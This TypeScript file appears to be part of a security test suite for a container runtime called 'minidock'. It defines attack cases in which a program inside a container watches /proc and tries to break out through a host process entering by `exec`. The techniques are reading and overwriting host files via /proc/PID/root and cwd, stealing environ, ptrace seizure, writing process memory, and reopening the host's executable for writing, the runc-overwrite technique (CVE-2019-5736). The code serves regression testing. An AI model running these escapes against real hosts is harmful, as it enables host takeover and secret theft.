/**
 * `exec` brings a process of the host's into a container that may lie in wait for it. Programs in the container look
 * at every process that appears in /proc, over and over, while the victim runs `exec`.
 */
import type { AttackCase, Stage, Way } from '../case.ts';

const TRIES = 15;
/** Milliseconds after which three tries are enough, where each takes seconds. */
const ENOUGH = 15_000;

interface Watch {
  readonly name: string;
  readonly story: string;
  /** What a shell does with each `$p`, a /proc/PID; `$secret` is the host's path. Or a program for Bun. */
  readonly shell?: string;
  readonly program?: string;
  /** With the container's usual capabilities it cannot, and could not before. */
  readonly usual?: boolean;
  readonly guard?: boolean;
  readonly short?: boolean;
  readonly execFlags?: readonly string[];
}

const everyProcess = (secret: string, body: string): string => `
secret=${secret}
echo watching
while :; do
  for p in /proc/[0-9]*; do
    [ $p = /proc/1 ] && continue
    { ${body} ; } 2>/dev/null
  done
done`;

/** `seen(pid)` is called for every process again and again, as fast as Bun can; it returns words to print. */
const everyProcessBun = (seen: string): string => `
const fs = require('node:fs');
const own = fs.readlinkSync('/proc/self');
const attempt = (action) => { try { return action(); } catch { return undefined; } };
const read = (path) => attempt(() => fs.readFileSync(path, 'latin1')) ?? '';
const field = (pid, name) => new RegExp('^' + name + ':\\t(.*)', 'm').exec(read('/proc/' + pid + '/status'))?.[1];
const namespace = (pid) => attempt(() => fs.readlinkSync('/proc/' + pid + '/ns/mnt'));
const isForeign = (pid) => /minidock|nsenter|memfd/.test(attempt(() => fs.readlinkSync('/proc/' + pid + '/exe')) ?? '');
/** What the process has beyond the container. */
function powers(pid) {
  const mounts = namespace(pid);
  if (mounts !== undefined && mounts !== namespace(own)) return "the host's mounts";
  const more = BigInt('0x' + field(pid, 'CapEff')) & ~BigInt('0x' + field(own, 'CapEff'));
  if (more !== 0n) return 'capabilities ' + more.toString(16);
  return field(pid, 'Seccomp') === field(own, 'Seccomp') ? undefined : 'no filter';
}
${seen}
console.log('watching');
for (;;) {
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^[0-9]+$/.test(pid) || pid === '1' || pid === own) continue;
    const words = attempt(() => seen(pid));
    if (words) console.log('GOT ' + words);
  }
}`;

const PTRACE = `
const { dlopen } = require('bun:ffi');
const { symbols } = dlopen('libc.so.6', { ptrace: { args: ['i64', 'i32', 'ptr', 'ptr'], returns: 'i32' } });
const SEIZE = 0x4206;
function seen(pid) {
  if (!isForeign(pid) || symbols.ptrace(SEIZE, Number(pid), null, null) !== 0) return;
  const more = powers(pid);
  return isForeign(pid) && more !== undefined ? 'hold by ptrace of a process with ' + more : undefined;
}`;

const MEMORY = `
function seen(pid) {
  if (!isForeign(pid)) return;
  const more = powers(pid);
  fs.closeSync(fs.openSync('/proc/' + pid + '/mem', 'r+'));
  return isForeign(pid) && more !== undefined ? 'the memory, writable, of a process with ' + more : undefined;
}`;

/**
 * The process is killed at once, so that nobody makes the mount of its file read-only any more. Opening the file waits
 * until nobody executes it, which is a matter of patience; the case notices at once that the mount is writable.
 */
const EXECUTABLE = `
const O_PATH = 0x200000;
const isWritable = (fd) => (fs.accessSync('/proc/self/fd/' + fd, fs.constants.W_OK), true);
/** A file in memory may be opened for writing and yet be sealed. */
const writes = (fd) => (fs.writeSync(fs.openSync('/proc/self/fd/' + fd, 'r+'), 'x', 0), true);
function seen(pid) {
  if (!isForeign(pid)) return;
  const fd = fs.openSync('/proc/' + pid + '/exe', O_PATH);
  attempt(() => process.kill(Number(pid), 'SIGKILL'));
  while (fs.existsSync('/proc/' + pid + '/exe')) Bun.sleepSync(1);
  const path = fs.readlinkSync('/proc/self/fd/' + fd);
  const writable = path.startsWith('/memfd:') ? attempt(() => writes(fd)) : attempt(() => isWritable(fd));
  fs.closeSync(fd);
  return writable && /minidock|nsenter/.test(path) ? "the host's " + path + ', writable' : undefined;
}`;

const WATCHES: readonly Watch[] = [
  {
    name: 'root',
    story: 'A program reads the host’s files through /proc/PID/root of the entering process.',
    shell: 'x=; read -r x <$p/root$secret; [ -n "$x" ] && echo "GOT $x"',
    short: true,
  },
  {
    name: 'root-usual',
    story: 'A program with the usual capabilities tries /proc/PID/root of the entering process.',
    shell: 'x=; read -r x <$p/root$secret; [ -n "$x" ] && echo "GOT $x"',
    usual: true,
  },
  {
    name: 'cwd',
    story: 'A program reads the host’s files through /proc/PID/cwd of the entering process.',
    shell: 'x=; read -r x <$p/cwd/../../../../../../../..$secret; [ -n "$x" ] && echo "GOT $x"',
  },
  {
    name: 'write',
    story: 'A program writes the host’s files through /proc/PID/root of the entering process.',
    shell: '[ -f $p/root$secret ] && echo overwritten >$p/root$secret',
  },
  {
    name: 'environment',
    story: 'A program reads what the victim’s shell has in its environment from /proc/PID/environ.',
    shell: 'cat $p/environ',
    guard: true,
  },
  {
    name: 'environment-usual',
    story: 'A program with the usual capabilities tries /proc/PID/environ of the entering process.',
    shell: 'cat $p/environ',
    usual: true,
  },
  {
    name: 'privileged-flag',
    story: 'A program with the usual capabilities lies in wait for the process of exec --privileged.',
    shell: 'x=; read -r x <$p/root$secret; [ -n "$x" ] && echo "GOT $x"',
    usual: true,
    execFlags: ['--privileged'],
  },
  {
    name: 'ptrace',
    story: 'A program attaches to the entering process while that has all of the host’s powers.',
    program: everyProcessBun(PTRACE),
    short: true,
  },
  {
    name: 'memory',
    story: 'A program opens the memory of the entering process for writing.',
    program: everyProcessBun(MEMORY),
  },
  {
    name: 'executable',
    story:
      'A program keeps /proc/PID/exe of the entering process, kills it, and opens the host’s program for writing.',
    program: everyProcessBun(EXECUTABLE),
  },
];

const CVES = ['CVE-2016-9962', 'CVE-2019-5736', 'CVE-2024-21626'];

const watchCase = (watch: Watch): AttackCase => ({
  name: `exec-${watch.name}`,
  story: watch.story,
  cves: CVES,
  ...(watch.short === true ? { short: true } : {}),
  ...(watch.usual === true || watch.guard === true ? { guard: true } : {}),
  ways: watch.usual === true ? ['run'] : ['run', 'privileged'],
  attack: async (stage, way) => await lieInWait(stage, way, watch),
});

async function lieInWait(stage: Stage, way: Way, watch: Watch): Promise<string | undefined> {
  const secret = stage.secret();
  const image = await stage.image({ files: {} });
  const given =
    way === 'privileged' ? ['--privileged'] : watch.usual === true ? [] : ['--cap-add', 'SYS_PTRACE'];
  const program = watch.program === undefined ? undefined : stage.bun(watch.program);
  const command = program?.command ?? ['/bin/sh', '-c', everyProcess(secret.path, watch.shell ?? '')];
  const started = await stage.minidock('run', '-d', ...given, ...(program?.flags ?? []), image, ...command);
  if (started.exitCode !== 0) throw new Error(started.stderr);
  const id = started.stdout.trim();
  const logs = async (): Promise<string> => {
    const { stdout, stderr } = await stage.minidock('logs', id);
    return stdout + stderr;
  };
  await stage.host.waitFor(async () => (await logs()).includes('watching'), 'the attacker to watch');
  // A process that is stopped by its tracer does not end.
  const argv = [
    'timeout',
    String(4 * stage.patience),
    stage.binary,
    'exec',
    ...(watch.execFlags ?? []),
    id,
    '/bin/true',
  ];
  let entered = 0;
  const begun = Date.now();
  for (let n = 0; n < TRIES && (n < 3 || Date.now() - begun < ENOUGH); n++) {
    const { exitCode } = await stage.run(argv, { env: { TOKEN: secret.text } });
    if (exitCode === 0) entered++;
    const said = await logs();
    if (said.includes(secret.text)) return `the text of the host's secret, at exec ${String(n + 1)}`;
    const got = /GOT (.*)/.exec(said)?.[1];
    if (got !== undefined) return `${got}, at exec ${String(n + 1)}`;
    if (secret.changed()) return `the host's ${secret.path} was overwritten, at exec ${String(n + 1)}`;
  }
  if (entered === 0) throw new Error(`no exec succeeded: ${await logs()}`);
  return undefined;
}

export const execCases: readonly AttackCase[] = WATCHES.map(watchCase);
